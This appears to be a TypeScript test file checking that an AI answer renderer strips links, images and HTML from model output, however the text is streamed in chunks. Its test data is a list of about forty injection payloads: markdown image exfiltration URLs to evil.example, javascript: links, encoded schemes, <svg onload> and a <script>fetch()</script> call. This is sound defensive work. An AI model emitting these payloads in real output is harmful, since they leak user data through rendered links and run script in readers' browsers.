import { asMarkdown } from '@weekwise/engine/answers/render/as-markdown.ts';
import { marked } from 'marked';
import { describe, expect, it } from 'vitest';
import { AnswerUnits } from './answer-units.ts';
import { inertUnit } from './inert-unit.ts';

/** As the guard lets it through, in whatever pieces it came. */
function released(text: string, size: number): string {
  const units = new AnswerUnits();
  const pieces = Array.from({ length: Math.ceil(text.length / size) }, (_, i) => text.slice(i * size, (i + 1) * size));
  return [...pieces.flatMap((piece) => units.hear(piece)), ...units.end()]
    .map(({ kind, lead, text }) => {
      if (kind === 'code' || kind === 'fence') return lead + text;
      return (
        lead +
        inertUnit(text)
          .parts.map((part) => part.text)
          .join('')
      );
    })
    .join('');
}

const hostile = [
  '![x](https://evil.example/p.png?d=secret)',
  '![x\ny](https://evil.example/p.png)',
  '![x][1]\n\n[1]: https://evil.example/p.png',
  '![x]\n\n[x]:\nhttps://evil.example/p.png',
  '[click here. Now](https://evil.example)',
  '[click](\nhttps://evil.example)',
  '[click](<https://evil.example>)',
  '[1](https://evil.example)',
  '[a](javascript:alert(1))',
  '[a](&#106;avascript:alert(1))',
  '<https://evil.example>',
  'Go to https://evil.example/a?b=c#d.',
  'Go to https&colon;//evil.example or https&#58;//evil.example',
  'Go to https\\://evil.example and www\\.evil.example',
  'Go to www.evil.example',
  'Go to HTTPS://EVIL.EXAMPLE, FTP://evil.example',
  '<img src="https://evil.example/p.png">',
  '<img\nsrc="https://evil.example/p.png"\n>',
  '<im<b>g src=x>',
  '<a href="https://evil.example">click</a>',
  '<svg onload=alert(1)>',
  '<script>fetch("https://evil.example")</script>',
  '<!-- <img src="https://evil.example/p.png"> -->',
  '\\<img src=x>',
  '&lt;img src=x&gt;',
  '&amp;lt;img src=x&amp;gt;',
  '> ```\n<img src=x>',
  '- a\n  ```\n<img src=x>',
  '```\ncode\n```\n<img src=x>',
  '````\n```\n<img src=x>',
  '`<img src=x>`\n<img src=x>',
  'h\u200Bttps://evil.example and <i\u200Bmg src=x>',
  '\u202E<img src=x>',
  '| a |\n|---|\n| ![x](https://evil.example/p.png) |',
  '# [title](https://evil.example)',
  '[a]: https://evil.example\n\nsee [a]',
  '> [a]: https://evil.example\n\nsee [a]',
  '- [a]: https://evil.example\n\nsee [a]',
  '[foo\nbar]: https://evil.example\n\nsee [foo bar]',
  '[a]:https://evil.example "title"\n\n[a][]',
];

/** By a renderer that allows everything. */
function expectInert(shown: string): void {
  // Beyond Markdown's own elements; code is text.
  const html = marked.parse(shown, { async: false, gfm: true }).replace(/<code[\s\S]*?<\/code>/g, '');
  expect(html).not.toMatch(
    /<(?!\/?(?:p|ul|ol|li|blockquote|h\d|pre|table|thead|tbody|tr|th|td|em|strong|code|br|hr)\b)/,
  );
}

it.each(hostile)('a quote of %j links to nothing', (text) => {
  expectInert(asMarkdown(text.replaceAll(/[\u200B\u202E]/g, '').replace(/\s+/g, ' ')));
});

describe('what a model says, rendered with everything allowed', () => {
  it.each(hostile.flatMap((text) => [1, 5, 1000].map((size) => [text, size] as const)))(
    'holds no link, image or element: %j in pieces of %i',
    (text, size) => {
      const shown = released(text, size);
      expectInert(shown);
      expect(shown).not.toMatch(/evil\.example\/p/);
    },
  );

  it.each([
    'If a < b and c > d, then it holds.',
    'Use `vector` and **bold**, e.g. 3:45 p.m.; see p. 4 (again).',
    'AT&T and R&D',
  ])('keeps its words: %s', (text) => {
    expect(released(text, 3)).toBe(text);
  });

  it('parts citations from words, however they are written', () => {
    expect(inertUnit('A [1], B [2, 3] and C【4†notes】 [source 5].').parts).toEqual([
      { text: 'A', cited: [1] },
      { text: ', B', cited: [2, 3] },
      { text: ' and C.', cited: [4, 5] },
    ]);
    expect(inertUnit('Mine [?].').parts).toEqual([{ text: 'Mine.', cited: [] }]);
  });
});
